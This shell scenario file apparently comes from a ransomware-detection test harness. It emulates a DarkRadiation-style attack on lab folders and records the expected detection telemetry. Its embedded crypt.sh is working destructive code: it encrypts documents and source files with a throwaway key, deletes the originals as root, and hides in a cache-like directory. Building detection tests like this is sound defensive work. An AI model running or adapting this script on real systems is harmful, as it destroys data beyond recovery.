# DarkRadiation-style: find | xargs openssl enc to FILE.☢, then xargs rm of the originals, from a root
# login session (ssh as root). Meant for the exec-only rule set: only command lines are visible.
HOST=app02.corp.example
SUMMARY="Attack: DarkRadiation-style find | xargs openssl enc (new file NAME.☢) then find | xargs rm of the originals, from a root login session; no ransom note. Recorded with exec-only rules: no file events at all."
targets() { find "$RT_ROOT/home" "$RT_ROOT/shares/engineering" -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.py' -o -name '*.c' -o -name '*.sql' -o -name '*.md' \); }

scenario_prepare() {
    cat > "$RT_DROP/crypt.sh" <<'SH'
#!/bin/bash
cd /srv/rt-lab
K=$(openssl rand -hex 24)
find home shares/engineering -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.py' -o -name '*.c' -o -name '*.sql' -o -name '*.md' \) -print0 > /var/tmp/.font-cache/t
xargs -0 -I{} -P 2 openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$K" -in {} -out {}.☢ < /var/tmp/.font-cache/t
xargs -0 rm -f < /var/tmp/.font-cache/t
rm -f /var/tmp/.font-cache/t
SH
    chmod 755 "$RT_DROP/crypt.sh"
    targets | sort > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_login root "bash /var/tmp/.font-cache/crypt.sh"
}
scenario_verify() {
    rt_check encrypted "$(find "$RT_ROOT" -name '*.☢' | wc -l)" "$N_FILES" && rt_check originals-left "$(targets | wc -l)" 0
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "crypt.sh"
    loginUser: root
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: ".☢"
    notes: none
    tools: [openssl, xargs, find]
    targetRoots: [/srv/rt-lab/home, /srv/rt-lab/shares/engineering]
Y
}
scenario_cleanup() { rm -f "$RT_OPT.targets"; }
